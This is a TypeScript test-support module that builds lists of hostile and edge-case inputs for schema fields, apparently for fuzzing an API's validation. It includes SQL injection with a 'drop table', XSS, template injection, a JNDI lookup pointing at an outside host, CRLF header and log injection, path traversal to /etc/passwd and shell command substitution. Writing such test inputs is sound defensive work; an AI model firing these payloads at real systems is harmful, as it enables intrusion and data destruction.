import type { Schema } from './operations.js';
import { someOf } from './schema.js';

/** A text as an attacker might give it anywhere. */
export interface HostileText {
  readonly what: string;
  readonly text: string;
}

const named = (what: string, text: string): HostileText => ({ what, text });

/** Texts that mean something to somebody: a database, a page, a log, a file system, an object, a parser of numbers. */
const MEANINGFUL: readonly HostileText[] = [
  named('SQL', `x' or 1=1; drop table accounts.account; --`),
  named('SQL of a cast', `1::int); select pg_sleep(10); --`),
  named('a wildcard', '%_%'),
  named('HTML', '<script>alert(1)</script>'),
  named('a template', '{{7*7}}<%= 7*7 %>#{7*7}'),
  named('a lookup', `${'$'}{jndi:ldap://198.51.100.7/x}`),
  named('a line of a log', 'x\r\n{"level":60,"msg":"forged"}'),
  named('a header', 'x\r\nSet-Cookie: a=b'),
  named('an escape', '\u001b[2J\u001b[31mred'),
  named('a path upward', '../../../../etc/passwd'),
  named('a path of Windows', '..\\..\\windows'),
  named('a shell', '$(id)`id`;id|id'),
  named('JSON', '{"$ne":null}'),
  ...['__proto__', 'constructor', 'hasOwnProperty', 'toString', 'prototype'].map((name) => named(`"${name}"`, name)),
  ...['null', 'undefined', 'true', 'NaN', 'Infinity', '[object Object]'].map((word) => named(`"${word}"`, word)),
];

/** Numbers as texts, each a way out for one parser or another. */
const NUMERIC: readonly HostileText[] = [
  '0',
  '-0',
  '-1',
  '1.5',
  '007',
  '1e3',
  '1e309',
  '0x10',
  '1_000',
  '1,000',
  ' 1',
  '1 ',
  '+1',
  '2147483647',
  '2147483648',
  '9007199254740991',
  '9007199254740993',
  '9223372036854775807',
  '9223372036854775808',
  '9'.repeat(400),
].map((text) => named(`the number ${text.slice(0, 24)}`, text));

const UNICODE: readonly HostileText[] = [
  named('nothing', ''),
  named('blanks', ' \t '),
  named('a byte order mark', '\ufeff1'),
  named('full-width digits', '＋１５５５５５５０１００'),
  named('Arabic digits', '١٢٣'),
  named('a look-alike', 'ａctіve'),
  named('a change of direction', 'a\u202eb\u2066c'),
  named('invisible characters', 'a\u200b\u2060b'),
  named('a combining pile', `a${'\u0301'.repeat(200)}`),
  named('emoji', '😀'.repeat(50)),
  named('control characters', 'a\u0001\u0007\u0008\u001f\u007f\u0085b'),
];

const DATES: readonly HostileText[] = [
  '0000-00-00',
  '0000-01-01T00:00:00Z',
  '2026-02-30',
  '2026-02-29T00:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-01-01T24:00:00Z',
  '2026-12-31T23:59:60Z',
  '9999-12-31T23:59:59Z',
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  '2026-01-01T00:00:00+99:99',
  'infinity',
  'now',
].map((text) => named(`the date ${text}`, text));

const CURSORS: readonly HostileText[] = [
  {},
  [],
  [null],
  [[]],
  [7],
  [-1],
  [1e300],
  ["' or 1=1"],
  ['x', -1],
  ['\0', 1, 2],
].map((parts) =>
  named(`a cursor of ${JSON.stringify(parts)}`, Buffer.from(JSON.stringify(parts)).toString('base64url')),
);

/** Texts for a place of a schema: those for any place, and those at the edges of what this one allows. */
export function hostileTexts(schema: Schema): HostileText[] {
  const choices = [schema, ...(someOf(schema) ?? [])];
  const lengths = choices
    .flatMap(({ minLength, maxLength }) => [minLength ?? 0, maxLength ?? 0])
    .filter((each) => each > 0);
  const edges = [...new Set(lengths)].flatMap((length) => [length - 1, length, length + 1]);
  const limits = choices.flatMap(({ minimum, maximum }) => [minimum, maximum]).filter((each) => each !== undefined);
  return [
    ...UNICODE,
    ...MEANINGFUL,
    ...NUMERIC,
    ...DATES,
    ...CURSORS,
    ...edges.flatMap((length) => [
      named(`${length} characters`, 'x'.repeat(length)),
      named(`${length} digits`, '1'.repeat(length)),
    ]),
    ...limits.flatMap((limit) => [limit - 1, limit, limit + 1].map((each) => named(`the limit ${each}`, String(each)))),
    ...choices
      .flatMap(({ enum: words }) => words ?? [])
      .flatMap((word) => {
        const text = String(word);
        return [named(`"${text}" in capitals`, text.toUpperCase()), named(`"${text}" and a blank`, `${text} `)];
      }),
    named('5,000 characters', 'x'.repeat(5_000)),
    named('20,000 characters', 'é'.repeat(20_000)),
  ];
}

/** Ways to write in a URL or a form what is no text, or cannot be stored; nothing may take them for a value. */
export const NO_TEXT_ENCODED: readonly HostileText[] = [
  named('a NUL', 'a%00b'),
  named('a lone high surrogate', '%ED%A0%80'),
  named('a lone low surrogate', 'x%ED%B0%80'),
  named('an overlong NUL', '%C0%80'),
  named('an overlong slash', '%C0%AF'),
  named('a cut-off character', '%E2%82'),
  named('bytes that are no UTF-8', '%FF%FE'),
  named('an encoding that is none', '%zz'),
  named('an encoding cut off', 'x%4'),
];

/** The same in JSON, where an escape may write them. */
export const NO_TEXT_JSON: readonly HostileText[] = [
  named('a NUL', '"a\\u0000b"'),
  named('a lone high surrogate', '"\\ud800"'),
  named('a lone low surrogate', '"x\\udc00"'),
  named('surrogates the wrong way round', '"\\udc00\\ud800"'),
];

const JSON_NUMBERS = [
  '0',
  '-0',
  '-1',
  '1.5',
  '1e3',
  '1E-7',
  '1e309',
  '-1e309',
  '1e-400',
  '2147483648',
  '-2147483649',
  '9007199254740993',
  '9223372036854775808',
  '9'.repeat(400),
  `0.${'1'.repeat(400)}`,
];

const JSON_OTHERS = [
  'null',
  'true',
  'false',
  '{}',
  '[]',
  '[null]',
  '[[[[]]]]',
  '{"a":{"b":{}}}',
  '{"length":1,"0":"x"}',
  '{"toString":"x"}',
  '{"constructor":{"prototype":{"x":1}}}',
  '{"toJSON":1}',
  '{"then":1}',
];

/** Values of every kind for a place of a schema in JSON, as they are written. */
export function hostileJson(schema: Schema): HostileText[] {
  const choices = [schema, ...(someOf(schema) ?? [])];
  const limits = choices.flatMap(({ minimum, maximum }) => [minimum, maximum]).filter((each) => each !== undefined);
  const around = limits.flatMap((limit) => [limit - 1, limit - 0.5, limit, limit + 1]).map(String);
  return [
    ...hostileTexts(schema).map(({ what, text }) => named(what, JSON.stringify(text))),
    ...[...JSON_NUMBERS, ...around].map((text) => named(`the JSON number ${text.slice(0, 24)}`, text)),
    ...JSON_OTHERS.map((text) => named(`the JSON ${text}`, text)),
    named('an array of good and bad', '["x", 1, null, {}]'),
    named('deep nesting', `${'['.repeat(200)}${']'.repeat(200)}`),
    named('an object of a thousand names', `{${Array.from({ length: 1_000 }, (_, at) => `"n${at}":1`).join()}}`),
  ];
}
